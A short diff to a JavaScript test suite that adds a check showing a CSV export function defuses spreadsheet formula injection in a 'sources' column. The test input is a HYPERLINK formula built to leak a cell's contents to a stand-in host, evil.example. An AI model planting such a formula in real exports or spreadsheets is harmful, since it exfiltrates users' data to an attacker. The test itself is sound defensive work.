@@ -16,6 +16,10 @@ describe('exports', () => {
         { title: 'SDK', url: 'https://d/s' },
       ]),
     ).toBe('Flags https://d/f; SDK https://d/s')
+    // A list flattened to text is text: a docs page titled as a formula is defused in the sources column too.
+    expect(csvCell([{ title: '=HYPERLINK("https://evil.example/?leak="&C2,"Open")&T("', url: 'https://d/x")' }])).toBe(
+      `"'=HYPERLINK(""https://evil.example/?leak=""&C2,""Open"")&T("" https://d/x"")"`,
+    )
   })
 
   test('pages are read only as the client reads the stream', async () => {
